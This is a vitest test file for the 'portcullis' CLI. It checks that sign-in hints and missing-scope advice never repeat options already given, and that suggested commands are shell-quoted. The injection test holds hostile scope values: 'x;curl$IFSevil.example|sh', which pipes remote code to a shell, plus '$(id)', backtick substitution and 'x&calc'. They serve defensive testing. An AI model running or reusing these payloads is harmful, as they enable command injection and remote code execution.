/** Advice with errors: it never names an option that was just given. */
import { ClientError } from '@portcullis/client';
import { expect, it } from 'vitest';
import { adviceFor } from '../src/client/advice.ts';
import { hintFor } from '../src/client/exit-codes.ts';
import { signInCommand } from '../src/client/sign-in-command.ts';
import { HttpResponseError } from '../src/client/transport/responses.ts';

const user = {
  server: 'https://mcp.example',
  flags: { account: 'default' },
  command: 'portcullis',
  scopes: ['notes:read'],
};

const cancelled = new ClientError('cancelled', 'The sign-in was not completed.');
const unusable = new ClientError('store_unusable', 'The credentials cannot be stored in /x/y.');
const unregistered = new ClientError('registration_needed', 'Register a client.');
const mismatch = new ClientError('registration_issuer_mismatch', 'The client was used with another issuer.');
const invalidScope = new ClientError('authorization_failed', 'No.', { oauthError: 'invalid_scope' });

it.each([
  [cancelled, ['login', 'https://mcp.example'], ['--no-browser', '--device']],
  [cancelled, ['login', 'https://mcp.example', '--no-browser'], ['--device']],
  [cancelled, ['login', 'https://mcp.example', '--device'], []],
  [invalidScope, ['login', 'https://mcp.example'], ['--scope']],
  [unregistered, ['call', 'https://mcp.example'], ['--client-id', '--client-secret-file', '--port']],
  [unregistered, ['call', 'https://mcp.example', '--client-id=a'], []],
  [unusable, ['login', 'https://mcp.example'], ['--credentials']],
  [unusable, ['login', 'https://mcp.example', '--credentials', 'a.db'], []],
  [mismatch, ['login', 'https://mcp.example'], ['--credentials']],
  [mismatch, ['login', 'https://mcp.example', '--credentials=a.db'], []],
] as const)('the hint for %s after %j advises %j', (error, args, options) => {
  expect(hintFor(error, args).match(/--[\w-]+/g) ?? []).toEqual(options);
});

it('the hint for scopes that were given says that they are the problem', () => {
  for (const scope of ['--scope', '--scope=notes:write'])
    expect(hintFor(invalidScope, ['call', 'https://mcp.example', scope])).toMatch(
      /^This client is not registered/,
    );
});

it.each([
  [false, /run this again with --step-up, or sign in with portcullis login/],
  [
    true,
    /did not grant it with --step-up\. Sign in with portcullis login \S+ --scope notes:read notes:write$/,
  ],
])('the advice for a missing scope where --step-up is %j', (stepUp, expected) => {
  const error = new HttpResponseError(403, '', ['notes:write']);
  expect(adviceFor(error, { ...user, flags: { ...user.flags, ...(stepUp && { stepUp }) } })).toMatch(
    expected,
  );
});

it.each([
  'x;curl$IFSevil.example|sh',
  '$(id)',
  '`id`',
  'x&calc',
  "x'y",
  'x>file',
  '*',
  '--whole-origin',
  '--trust-origin=https://evil.example',
])('the advice for the missing scope %j has no command with it', (scope) => {
  const advice = adviceFor(new HttpResponseError(403, '', [scope]), user);
  const [, command = ''] = /with (portcullis .*)$/.exec(advice) ?? [];
  expect(command).toMatch(/^portcullis login https:\/\/mcp\.example, and with --scope if you know/);
  expect(command).not.toContain(scope);
});

it.each([
  'notes:write',
  'https://www.example.com/auth/drive.readonly',
  'api://8b1f/.default',
  'read_write+offline',
])('the advice for the missing scope %j has the command with it', (scope) => {
  const advice = adviceFor(new HttpResponseError(403, '', [scope]), user);
  expect(advice.endsWith(`with portcullis login https://mcp.example --scope notes:read ${scope}`)).toBe(true);
});

it('the sign-in command quotes a server and an account that a shell would act on', () => {
  expect(signInCommand('https://mcp.example/mcp?a=1&b=$(x)', "Ann's; work", 'portcullis')).toBe(
    "portcullis login 'https://mcp.example/mcp?a=1&b=$(x)' --account 'Ann'\\''s; work'",
  );
  expect(signInCommand('https://mcp.example:8443/mcp', 'work', 'portcullis')).toBe(
    'portcullis login https://mcp.example:8443/mcp --account work',
  );
});
